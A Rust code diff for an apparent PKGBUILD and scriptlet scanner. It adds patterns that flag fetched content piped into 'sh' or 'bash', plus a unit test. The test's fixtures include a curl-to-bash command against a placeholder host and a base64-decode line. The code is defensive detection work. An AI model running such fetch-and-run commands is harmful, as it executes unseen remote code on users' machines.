@@ -26,6 +26,9 @@ const HIDE: [&str; 10] = [
     "| base64",
 ];
 
+/// Where what was written before is handed to a shell.
+const PIPED: [&str; 4] = ["| sh", "| bash", "|sh", "|bash"];
+
 /// Reasons for new lines in PKGBUILD and scriptlets.
 pub(super) fn compare(written: &[Written<'_>]) -> Vec<Reason> {
     let mut reasons = Vec::new();
@@ -42,7 +45,11 @@ pub(super) fn compare(written: &[Written<'_>]) -> Vec<Reason> {
             }
             let place = (path, Some(number));
             if is_hidden(code) {
-                let message = "a command is written in a way that hides what it runs";
+                let message = if fetches(code) && PIPED.iter().any(|sign| code.contains(sign)) {
+                    "what a command fetches is run unseen"
+                } else {
+                    "a command is written in a way that hides what it runs"
+                };
                 reasons.push(reason("obfuscation", Weight::Hostile, place, None, Some(code.as_bytes()), message));
             } else if path != PKGBUILD && fetches(code) {
                 let message = "a script that runs as root on every machine fetches something, or installs packages";
@@ -88,4 +95,21 @@ fn is_split(line: &str) -> bool {
         letter(at) && quote(at + 1) && quote(at + 2) && letter(at + 3) && (quote(at + 4) || (at > 0 && quote(at - 1)))
     };
     (0..bytes.len()).any(|at| spelled(at) || touching(at))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn said(line: &str) -> String {
+        let written = Written { path: PKGBUILD, lines: vec![(1, line.as_bytes())] };
+        compare(&[written]).into_iter().map(|reason| reason.message).collect()
+    }
+
+    #[test]
+    fn what_is_fetched_and_run_is_told_apart_from_what_is_hidden() {
+        assert_eq!(said("curl -s https://a.example/x | bash"), "what a command fetches is run unseen");
+        assert_eq!(said("echo eA== | base64 -d"), "a command is written in a way that hides what it runs");
+        assert_eq!(said("make"), "");
+    }
 }
